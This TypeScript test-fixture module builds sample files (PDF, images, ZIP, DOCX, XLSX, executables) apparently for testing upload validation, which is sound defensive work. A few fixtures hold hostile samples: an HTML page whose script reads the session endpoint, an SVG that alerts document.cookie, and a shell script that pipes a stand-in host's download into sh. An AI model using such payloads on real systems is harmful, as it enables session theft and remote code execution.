import { crc32, deflateRawSync, deflateSync } from "node:zlib";

/** Bytes as File and Blob take them (a Buffer's type allows a SharedArrayBuffer, which they do not). */
export type Bytes = Uint8Array<ArrayBuffer>;

const bytes = (buffer: Buffer): Bytes => new Uint8Array(buffer);

// Small files with the real bytes of each format, built in code so that the unit, integration and
// end-to-end tests need no binary fixtures and no tool to make them. Each is what the format's own
// software would recognise: the PDF opens in a viewer, the images show, Word and Excel open the
// DOCX and XLSX.

/** A one-page PDF saying `text` (ASCII), with a correct cross-reference table. */
export function samplePdf(text = "Passport scan"): Bytes {
  const stream = `BT /F1 24 Tf 72 720 Td (${text.replace(/[()\\]/g, "\\$&")}) Tj ET`;
  const objects = [
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
  ];
  let body = "%PDF-1.4\n%\u00e2\u00e3\u00cf\u00d3\n";
  const offsets: number[] = [];
  objects.forEach((object, i) => {
    offsets.push(Buffer.byteLength(body, "latin1"));
    body += `${i + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xref = Buffer.byteLength(body, "latin1");
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) body += `${String(offset).padStart(10, "0")} 00000 n \n`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return bytes(Buffer.from(body, "latin1"));
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const typed = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typed));
  return Buffer.concat([length, typed, crc]);
}

/** A `width` × `height` RGB PNG, a diagonal gradient in `rgb`'s hue. */
export function samplePng(width = 64, height = 48, rgb: [number, number, number] = [37, 99, 235]): Bytes {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8); // 8 bits per channel, RGB, deflate, no filter, no interlace
  const rows = Buffer.alloc((width * 3 + 1) * height);
  for (let y = 0; y < height; y++) {
    const row = y * (width * 3 + 1);
    for (let x = 0; x < width; x++) {
      const shade = (x + y) / (width + height);
      rgb.forEach((c, i) => (rows[row + 1 + x * 3 + i] = Math.round(255 - (255 - c) * shade)));
    }
  }
  return bytes(Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk("IHDR", header),
    pngChunk("IDAT", deflateSync(rows)),
    pngChunk("IEND", Buffer.alloc(0)),
  ]));
}

// An 8 × 8 JPEG as Chromium's encoder writes it (canvas.toDataURL): JFIF, an sRGB ICC profile, baseline DCT.
const JPEG_8X8 = [
  "/9j/4AAQSkZJRgABAQAAAQABAAD/4gHYSUNDX1BST0ZJTEUAAQEAAAHIAAAAAAQwAABtbnRyUkdCIFhZWiAH4AABAAEAAAAAAABhY3NwAAAAAA",
  "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAQAA9tYAAQAAAADTLQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
  "AAAAAAlkZXNjAAAA8AAAACRyWFlaAAABFAAAABRnWFlaAAABKAAAABRiWFlaAAABPAAAABR3dHB0AAABUAAAABRyVFJDAAABZAAAAChnVFJDAA",
  "ABZAAAAChiVFJDAAABZAAAAChjcHJ0AAABjAAAADxtbHVjAAAAAAAAAAEAAAAMZW5VUwAAAAgAAAAcAHMAUgBHAEJYWVogAAAAAAAAb6IAADj1",
  "AAADkFhZWiAAAAAAAABimQAAt4UAABjaWFlaIAAAAAAAACSgAAAPhAAAts9YWVogAAAAAAAA9tYAAQAAAADTLXBhcmEAAAAAAAQAAAACZmYAAP",
  "KnAAANWQAAE9AAAApbAAAAAAAAAABtbHVjAAAAAAAAAAEAAAAMZW5VUwAAACAAAAAcAEcAbwBvAGcAbABlACAASQBuAGMALgAgADIAMAAxADb/",
  "2wBDAAYEBQYFBAYGBQYHBwYIChAKCgkJChQODwwQFxQYGBcUFhYaHSUfGhsjHBYWICwgIyYnKSopGR8tMC0oMCUoKSj/2wBDAQcHBwoIChMKCh",
  "MoGhYaKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCj/wAARCAAIAAgDASIAAhEBAxEB/8QAFQABAQAA",
  "AAAAAAAAAAAAAAAAAAT/xAAdEAABAgcAAAAAAAAAAAAAAAAAERcmM1Nmg5Pw/8QAFQEBAQAAAAAAAAAAAAAAAAAABgf/xAAhEQACAAUEAwAAAA",
  "AAAAAAAAABEQACAxIhEyIxQVFh8P/aAAwDAQACEQMRAD8Aqg5trtzVtcvlABVKVLSu3Esk5LT6HrwIJTz3rACCx9zH/9k=",
].join("");

/** An 8 × 8 JPEG (a white square on blue). */
export function sampleJpeg(): Bytes {
  return bytes(Buffer.from(JPEG_8X8, "base64"));
}

// The same picture as a lossy WebP (RIFF/WEBP/VP8X with an ICC profile), from Chromium's encoder.
const WEBP_8X8 = [
  "UklGRmYCAABXRUJQVlA4WAoAAAAgAAAABwAABwAASUNDUMgBAAAAAAHIAAAAAAQwAABtbnRyUkdCIFhZWiAH4AABAAEAAAAAAABhY3NwAAAAAA",
  "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAQAA9tYAAQAAAADTLQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
  "AAAAAAlkZXNjAAAA8AAAACRyWFlaAAABFAAAABRnWFlaAAABKAAAABRiWFlaAAABPAAAABR3dHB0AAABUAAAABRyVFJDAAABZAAAAChnVFJDAA",
  "ABZAAAAChiVFJDAAABZAAAAChjcHJ0AAABjAAAADxtbHVjAAAAAAAAAAEAAAAMZW5VUwAAAAgAAAAcAHMAUgBHAEJYWVogAAAAAAAAb6IAADj1",
  "AAADkFhZWiAAAAAAAABimQAAt4UAABjaWFlaIAAAAAAAACSgAAAPhAAAts9YWVogAAAAAAAA9tYAAQAAAADTLXBhcmEAAAAAAAQAAAACZmYAAP",
  "KnAAANWQAAE9AAAApbAAAAAAAAAABtbHVjAAAAAAAAAAEAAAAMZW5VUwAAACAAAAAcAEcAbwBvAGcAbABlACAASQBuAGMALgAgADIAMAAxADZW",
  "UDggeAAAALACAJ0BKggACAABQCYlqAJ0ugH4ABJsxcOg/0RLQAD5f3T14fuB/8FpRa6GZjpmdYumkL8wSjE5HxPSrffRl5+z/wR+9rBDljSG9P",
  "4Tv3AMaPcmP/6tIP/hO/iUX/8X/7ZP9nA/jr/+Fdf/WA+fCX/Bu7m/d8AAAA==",
].join("");

/** An 8 × 8 WebP. */
export function sampleWebp(): Bytes {
  return bytes(Buffer.from(WEBP_8X8, "base64"));
}

function box(type: string, payload: Buffer): Buffer {
  const size = Buffer.alloc(4);
  size.writeUInt32BE(8 + payload.length);
  return Buffer.concat([size, Buffer.from(type, "latin1"), payload]);
}

/**
 * The start of an iPhone HEIC photo: its ISO-BMFF `ftyp` box (major brand heic, compatible mif1 and
 * heic), then a `meta` box. What identifies the format is the ftyp box; the picture itself does not
 * matter to any rule here.
 */
export function sampleHeic(): Bytes {
  const ftyp = box("ftyp", Buffer.concat([Buffer.from("heic", "latin1"), Buffer.alloc(4), Buffer.from("mif1heic", "latin1")]));
  const hdlr = box("hdlr", Buffer.concat([Buffer.alloc(8), Buffer.from("pict", "latin1"), Buffer.alloc(13)]));
  return bytes(Buffer.concat([ftyp, box("meta", Buffer.concat([Buffer.alloc(4), hdlr]))]));
}

type ZipEntry = { name: string; content: string | Buffer };

/**
 * A zip archive of `entries`, in that order: deflated, or stored with the sizes in a data descriptor
 * after the data (`streamed`), as tools that write to a stream do.
 */
export function zip(entries: ZipEntry[], { streamed = false } = {}): Bytes {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = Buffer.from(entry.name, "utf8");
    const raw = Buffer.isBuffer(entry.content) ? entry.content : Buffer.from(entry.content, "utf8");
    const data = streamed ? raw : deflateRawSync(raw);
    const crc = crc32(raw);
    const method = streamed ? 0 : 8;
    const flags = 0x0800 | (streamed ? 0x0008 : 0); // UTF-8 names; sizes after the data
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(flags, 6);
    local.writeUInt16LE(method, 8);
    local.writeUInt32LE(0x00210000, 10); // 1980-01-01 00:00
    local.writeUInt32LE(streamed ? 0 : crc, 14);
    local.writeUInt32LE(streamed ? 0 : data.length, 18);
    local.writeUInt32LE(streamed ? 0 : raw.length, 22);
    local.writeUInt16LE(name.length, 26);
    const parts = [local, name, data];
    if (streamed) {
      const descriptor = Buffer.alloc(16);
      descriptor.writeUInt32LE(0x08074b50, 0);
      descriptor.writeUInt32LE(crc, 4);
      descriptor.writeUInt32LE(data.length, 8);
      descriptor.writeUInt32LE(raw.length, 12);
      parts.push(descriptor);
    }
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(flags, 8);
    central.writeUInt16LE(method, 10);
    central.writeUInt32LE(0x00210000, 12);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(raw.length, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    centrals.push(central, name);
    const local_ = Buffer.concat(parts);
    locals.push(local_);
    offset += local_.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return bytes(Buffer.concat([...locals, directory, end]));
}

const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
const RELS = `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="PART"/></Relationships>`;

function contentTypes(part: string, type: string): string {
  return (
    `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
    '<Default Extension="xml" ContentType="application/xml"/>' +
    `<Override PartName="/${part}" ContentType="${type}"/></Types>`
  );
}

/**
 * A one-paragraph Word document. `order` "word" writes [Content_Types].xml first, as Word does;
 * "streamed" writes the parts first and [Content_Types].xml last, stored with data descriptors, as
 * streaming writers do.
 */
export function sampleDocx(text = "推荐信", order: "word" | "streamed" = "word"): Bytes {
  const entries = [
    { name: "[Content_Types].xml", content: contentTypes("word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml") },
    { name: "_rels/.rels", content: RELS.replace("PART", "word/document.xml") },
    {
      name: "word/document.xml",
      content: `${XML}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>${text}</w:t></w:r></w:p></w:body></w:document>`,
    },
  ];
  return order === "word" ? zip(entries) : zip([...entries.slice(1), entries[0]], { streamed: true });
}

/** A one-cell Excel workbook (成绩单 as a spreadsheet). */
export function sampleXlsx(order: "excel" | "streamed" = "excel"): Bytes {
  const entries = [
    { name: "[Content_Types].xml", content: contentTypes("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml") },
    { name: "_rels/.rels", content: RELS.replace("PART", "xl/workbook.xml") },
    {
      name: "xl/workbook.xml",
      content: `${XML}<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="成绩" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    },
  ];
  return order === "excel" ? zip(entries) : zip([...entries.slice(1), entries[0]], { streamed: true });
}

/** An HTML page with a script: what a browser would run if it were served as HTML. */
export function sampleHtml(): Bytes {
  return bytes(Buffer.from('<!DOCTYPE html>\n<html><head><meta charset="utf-8"><title>护照</title></head><body><script>fetch("/api/auth/session").then(r => r.text()).then(alert)</script></body></html>\n'));
}

/** An SVG image with a script in it. */
export function sampleSvg(): Bytes {
  return bytes(Buffer.from('<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script><rect width="10" height="10"/></svg>\n'));
}

/** The start of a Linux executable (64-bit ELF header). */
export function sampleElf(): Bytes {
  const header = Buffer.alloc(64);
  header.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0], 0);
  header.writeUInt16LE(2, 16); // ET_EXEC
  header.writeUInt16LE(0x3e, 18); // x86-64
  header.writeUInt32LE(1, 20);
  return bytes(Buffer.concat([header, Buffer.alloc(64)]));
}

/** The start of a Windows executable: the MZ stub pointing at a PE header. */
export function samplePe(): Bytes {
  const file = Buffer.alloc(256);
  file.write("MZ", 0, "latin1");
  file.writeUInt32LE(0x80, 0x3c);
  file.write("This program cannot be run in DOS mode.", 0x4e, "latin1");
  file.write("PE\0\0", 0x80, "latin1");
  file.writeUInt16LE(0x8664, 0x84);
  return bytes(file);
}

/** A shell script. */
export function sampleShellScript(): Bytes {
  return bytes(Buffer.from("#!/bin/sh\ncurl -s http://example.invalid/x | sh\n"));
}
